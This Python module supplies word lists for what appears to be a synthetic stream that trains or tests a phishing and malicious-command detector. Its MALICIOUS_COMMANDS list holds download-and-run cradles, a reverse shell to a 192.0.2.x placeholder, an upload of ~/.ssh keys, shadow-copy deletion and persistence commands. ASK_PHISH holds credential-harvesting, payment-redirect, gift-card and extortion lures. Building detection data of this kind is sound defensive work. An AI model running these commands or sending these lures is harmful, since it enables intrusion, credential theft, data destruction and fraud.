"""The words that the generated stream is made of: invented, harmless, deliberately ambiguous.

Both sides of each kind share most of their words, as they do in a real queue: a real reminder
that a password expires reads much like a false one. Domains are those that RFC 2606 reserves.
"""

from __future__ import annotations

FIRST = (
    "alice", "bruno", "chen", "dana", "elif", "farid", "grace", "hugo", "ines", "jonas", "karin",
    "luis", "mona", "nils", "olga", "pavel", "quentin", "rosa", "samir", "tanja", "ulf", "vera",
    "wanda", "xavier", "yusuf", "zoe",
)  # fmt: skip
LAST = (
    "abbott", "baker", "costa", "dietrich", "engel", "fischer", "garcia", "hansen", "ivanov",
    "jensen", "keller", "lopez", "mueller", "novak", "olsen", "petrov", "quinn", "rossi",
    "schmidt", "tanaka", "urban", "vogel", "weber", "yilmaz", "zimmer",
)  # fmt: skip
HOSTS = ("ws", "lt", "srv", "db", "web", "vdi")
TOPICS = (
    "the quarterly figures",
    "the parcel for your office",
    "your mailbox storage",
    "the travel refund",
    "the supplier contract",
    "your benefits enrolment",
    "the shared document",
    "the payroll change",
    "the voice message",
    "the open invoice",
    "the building access card",
    "the training course",
)
TEAMS = ("Accounts", "Service Desk", "Human Resources", "Logistics", "Facilities", "Legal")
DEADLINES = ("today", "by Friday", "within 24 hours", "before noon", "this week", "by the 15th")

# In the order in which they come into fashion: the last ones are new at the end of the stream.
# Sentence slots: {t} topic, {d} deadline, {n} a first name, {e} an e-mail address, {p} a phone
# number, {u} a URL, {c} a card number, {k} a number.
ASK_BENIGN = (
    "Please have a look at {t} when you find the time.",
    "As discussed in the meeting, {t} is in the usual folder.",
    "No action is needed, this is only for your information about {t}.",
    "Could you confirm {t} in the portal {d}? The bookmark has not changed.",
    "I have attached the notes on {t}, comments are welcome {d}.",
    "Reminder: {t} is due {d}; sign in as usual from the intranet.",
    "If something is unclear about {t}, come by our desk or call {p}.",
    "Your request about {t} was closed, ticket {k}.",
    "{t} will be reviewed {d}; you will find the agenda in the calendar.",
    "We moved {t} to next week because of the holiday, sorry for the short notice.",
    "Thanks for your help with {t} yesterday, the customer was very happy.",
    "The password policy changes {d}; you will be asked at your next login, not by mail.",
    "Lunch is on us {d} to celebrate {t}, tell {n} if you are vegetarian.",
    "The invoice {k} for {t} was approved and will be paid with the next run.",
    "Can you review my draft on {t} before I send it to the team {d}?",
    "The minutes are in the wiki; {t} was postponed, everything else stays as planned.",
    "Security awareness: never enter your password after following a link about {t}.",
    "The parcel for {n} is at the front desk, please collect it {d}.",
    "Maintenance {d}: {t} will be slow for an hour, nothing to do on your side.",
    "Welcome aboard! {n} will show you {t} on your first day.",
    "We received your payment for {t}, the receipt {k} is attached for your records.",
    "Your card was renewed; collect it at the reception and bring your badge, {n}.",
    "The survey about {t} is anonymous and closes {d}, it takes three minutes.",
    "Please book the room for {t}, we will be about ten people.",
    "The new hire starts {d}; could you prepare a laptop and access to {t}?",
    "Here are the slides on {t}; the recording follows {d}.",
    "The bank holiday moves the payroll by a day, {t} is not affected.",
    "I will be out of office {d}; {n} takes over {t}.",
    "We fixed the fault with {t}; please restart your computer if you still see it.",
    "Your vacation was approved, enjoy it. {t} can wait.",
)
ASK_PHISH = (
    "Your access to {t} will be withdrawn {d} unless you validate your account at {u}",
    "We could not deliver {t}; settle the small fee of {k} here: {u}",
    "I need you to handle {t} discreetly {d}, I cannot take calls, reply only to {e}.",
    "Open the protected file about {t} and enable the content to read it: {u}",
    "Unusual sign-in detected. Keep your password for {t} by confirming it {d}: {u}",
    "Kindly purchase the vouchers for {t} and send me the codes {d}.",
    "The bank details for {t} have changed; pay invoice {k} to the new account {d}.",
    "Scan the code in the attachment to keep {t} {d}.",
    "Your card {c} was charged for {t}; cancel here {d}: {u}",
    "Somebody signed in as you from abroad. Prove that it was you or lose {t}: {u}",
    "Your inbox is full and incoming mail on {t} is held; release it now at {u}",
    "Tax refund of {k} waiting: enter where we should send it before it lapses {d}.",
    "Are you at your desk? I am in a board meeting and need a favour about {t}, quietly.",
    "This is the last warning about {t}: legal steps begin {d} if the sum is not wired.",
    "Our supplier's account was frozen, so transfer {k} for {t} to the one below {d}.",
    "Voice message from an unknown caller about {t}, press play: {u}",
    "Your subscription renews {d} for {k}; phone {p} at once if you did not order it.",
    "Payroll could not be sent; type your account number and sign-in to receive it: {u}",
    "A colleague shared a confidential list of salaries with you, log in to view it: {u}",
    "Your computer is infected. Call {p} and let our technician take it over {d}.",
    "Approve the request on your telephone when it rings, we are testing {t}.",
    "We recorded you through your camera; send {k} in coins {d} or everybody will see it.",
    "Customs hold your shipment; pay the duty with a gift card and mail us its number.",
    "Your shared drive expires {d}. Re-enter your credentials to keep the documents: {u}",
    "The director asks you to buy six store cards for clients and photograph the backs.",
    "Your benefits lapse at midnight unless you submit your social number here: {u}",
    "Document {k} awaits your signature; sign in with your company mail to read it: {u}",
    "For your safety we locked {t}; unlock by replying with the code that we just sent you.",
    "You have won the staff raffle; claim the prize {d} by giving your card's details.",
    "Update where your wages are paid: my old bank closed, use this one from now on.",
)
GREET = ("Hi {n},", "Dear {n},", "Hello,", "Good morning {n},", "Dear customer,", "{n},")
CLOSE = (
    "Best, {n} ({e})",
    "Regards, {team}, phone {p}",
    "Thank you, {n}",
    "Sent from my phone",
    "{team}",
    "Kind regards, {n} | {e} | {p}",
)
SUBJECT_BOTH = (
    "About {t}",
    "Reminder: {t}",
    "{t}",
    "Re: {t}",
    "Action required: {t}",
    "Fwd: {t} {k}",
    "Please confirm {t}",
)

BENIGN_SITES = (
    "intranet.example.com",
    "portal.example.org",
    "docs.example.net",
    "mail.example.com",
    "shop.example.org",
    "tickets.example.net",
    "cdn.example.com",
)
PATHS = (
    "login", "account/settings", "invoice", "view", "download", "track", "files/share",
    "reset-password", "calendar", "wiki/page", "api/v2/items", "search",
)  # fmt: skip
LURE_WORDS = ("secure", "verify", "account", "update", "support", "signin", "billing", "service")

BENIGN_COMMANDS = (
    "powershell.exe -NoProfile -File C:\\Scripts\\{w}.ps1 -Verbose",
    "powershell.exe -Command Get-Service | Where-Object Status -eq Running",
    "powershell.exe -NoProfile -EncodedCommand {b}",
    "certutil.exe -verify C:\\Users\\{n}\\Documents\\{w}.cer",
    "certutil.exe -hashfile C:\\Users\\{n}\\Downloads\\{w}.msi SHA256",
    "rundll32.exe shell32.dll,Control_RunDLL {w}.cpl",
    "schtasks.exe /query /tn {w} /v",
    "curl -fsSL https://cdn.example.com/{w}.tar.gz -o /home/{n}/{w}.tar.gz",
    "bash -c 'cd /home/{n}/{w} && git pull --rebase && make'",
    "msiexec.exe /i \\\\srv-{k}\\share\\{w}.msi /qn",
    "regsvr32.exe /s C:\\Program Files\\{w}\\{w}.dll",
    "wmic.exe os get caption,version",
    "net.exe use Z: \\\\srv-{k}\\{w}",
    "python3 /home/{n}/{w}.py --port {k}",
    "tar -czf /var/backups/{w}-{k}.tgz /etc/{w}",
    "bitsadmin.exe /list /allusers",
    "mshta.exe C:\\Program Files\\{w}\\setup.hta",
)
MALICIOUS_COMMANDS = (
    "powershell.exe -NoP -W Hidden -Enc {b}",
    "powershell.exe -c IEX(New-Object Net.WebClient).DownloadString('{u}')",
    "certutil.exe -urlcache -split -f {u} C:\\Users\\{n}\\AppData\\Local\\Temp\\{w}.exe",
    "rundll32.exe C:\\Users\\{n}\\AppData\\Roaming\\{w}.dll,Start",
    "schtasks.exe /create /tn {w} /tr C:\\Users\\{n}\\AppData\\{w}.exe /sc minute /mo 5",
    "curl -s {u} | bash",
    "bash -c 'bash -i >& /dev/tcp/192.0.2.{o}/{k} 0>&1'",
    "msiexec.exe /q /i {u}",
    "regsvr32.exe /s /n /u /i:{u} scrobj.dll",
    "wmic.exe process call create C:\\Users\\{n}\\AppData\\Local\\{w}.exe",
    "vssadmin.exe delete shadows /all /quiet",
    "python3 -c 'import socket,os,pty;s=socket.create_connection((\"192.0.2.{o}\",{k}))'",
    "tar -czf - /home/{n}/.ssh | curl -T - {u}",
    "bitsadmin.exe /transfer {w} {u} C:\\Users\\{n}\\{w}.exe",
    "mshta.exe {u}",
    "net.exe user {w} {k} /add /domain",
)
WORDS = (
    "update", "inventory", "backup", "report", "deploy", "monitor", "cleanup", "agent", "setup",
    "metrics", "printer", "archive", "sync", "policy", "chrome", "teams", "zoom", "onedrive",
    "billing", "audit",
)  # fmt: skip
